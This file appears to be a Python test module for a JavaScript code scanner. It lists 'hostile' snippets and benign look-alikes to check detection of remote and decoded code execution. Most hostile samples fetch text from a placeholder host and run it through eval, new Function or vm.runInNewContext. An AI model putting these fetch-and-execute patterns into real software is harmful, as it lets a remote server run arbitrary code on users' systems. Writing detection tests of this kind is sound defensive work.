"""What bundles of honest libraries do, over functions of one line and one letter; and the deed that differs in one."""

from inspection.rules.sample import Sample, js

_ASKS = (
    "function Asked() {\n  const x = new XMLHttpRequest();\n  x.open('GET', '/a', false);\n  x.send();\n"
    "  this.body = x.responseText;\n}\nfunction Heads(row) { this.append(row); }\n"
)
_COMPILES = (
    "function Compiled(given) { Object.assign(this, given); }\n"
    "Compiled.prototype.run = function () { return new Function(this.text)(); };\n"
)
HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_code": {
        "what an object keeps is run by a function of its prototype": js(
            "function Job() {\n  fetch('https://a.invalid').then(r => r.text()).then(t => { this.code = t; });\n}\n"
            "Job.prototype.go = function () { eval(this.code); };\nnew Job().go();\n"
        ),
        "what an object keeps is run by its prototype, written as a whole": js(
            "function Job() {\n  fetch('https://a.invalid').then(r => r.text()).then(t => { this.code = t; });\n}\n"
            "Job.prototype = { go: function () { eval(this.code); } };\nnew Job().go();\n"
        ),
        "what an object keeps is run by a function next to it": js(
            "const job = {\n  get() {\n    fetch('https://a.invalid').then(r => r.text()).then(t => this.code = t);\n"
            "  },\n  go() { eval(this.code); },\n};\njob.get(); job.go();\n",
            line=3,
        ),
        "what an object of one letter keeps": js(
            "(function () { function t() {\n  fetch('https://a.invalid').then(r => r.text()).then(e => {"
            " this.c = e; });\n}\nt.prototype.go = function () { eval(this.c); };\nnew t().go(); })();\n"
        ),
        "what runs code, if it is there": js(
            "const run = globalThis && globalThis.eval && eval;\n"
            "fetch('https://a.invalid').then(r => r.text()).then(t => { run(t); });\n"
        ),
        "a file that a server names, where it was written before": js(
            "const fs = require('fs'), vm = require('vm');\n"
            "fetch('https://a.invalid').then(r => r.json()).then(r => {\n  fs.writeFileSync('dist/' + r.id, r.text);\n"
            "  vm.runInNewContext(fs.readFileSync(`dist/${r.name}`, 'utf8'), {});\n});\n"
        ),
        "the maker of what is a function for all who call": js(
            "const reply = await fetch('https://a.invalid').then(r => r.text());\n"
            "function like(one, text) { return one.constructor(text)(); }\nlike(() => 1, reply);\n",
            line=1,
        ),
        "the maker of what is a function only for some who call": js(
            "const reply = await fetch('https://a.invalid').then(r => r.text());\n"
            "function like(list, n) { const Made = list.constructor; return new Made(n)(); }\n"
            "like([1, 2], 3);\nlike(() => 1, reply);\n",
            "review",
            1,
        ),
    },
    "decoded_code": {
        "pieces in a row that a function of the source puts together": js(
            "const join = row => row.split(',').map(each => each.slice(1)).join('');\n"
            "new Function(join('xY29u,qc29s,bZS5s,9b2co,3MSk7'))();\n"
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_code": {
        "a helper that is only tried": {
            "app.js": "const util = (() => { const t = module && module.require && module.require('util').types;\n"
            "  return t; })();\nconst one = f => value => f(value);\nconst own = util && util.isDate;\n"
            "const isDate = own ? one(own) : value => false;\n"
            "fetch('https://a.invalid').then(r => r.text()).then(t => console.log(isDate(t)));\n"
        },
        "a file of its own that a server names": {
            "app.js": "const fs = require('fs'), vm = require('vm');\n"
            "fetch('https://a.invalid').then(r => r.json()).then(r => {\n"
            "  vm.runInNewContext(fs.readFileSync(`dist/${r.name}`, 'utf8'), {});\n});\n"
        },
        "what one object keeps of a server is in no other": {
            "app.js": _ASKS + _COMPILES + "new Asked();\nnew Compiled({ text: 'return 1' }).run();\n"
        },
    },
    "decoded_code": {
        "a name that counts letters on": {
            "app.js": "const letter = j => String.fromCharCode(97 + (j - 1) % 26);\nlet key = '';\n"
            "for (let j = 0; j < 9; j++) key += letter(j);\nnew Function('return ' + key)();\n"
        },
        "words in a row that a function of the source looks up": {
            "app.js": "function row(e) { const t = {}; for (const n of e.split(',')) t[n] = 1; return e => e in t; }\n"
            "const own = row(',key,ref,ref_for,ref_key,onVnodeBeforeMount,h1,h2,p,annotation-xml,onVnodeUpdated,maction"
            ",semantics');\n"
            "const build = name => new Function('return ' + [own(name), name].join(''))();\nbuild('key');\n"
        },
    },
}
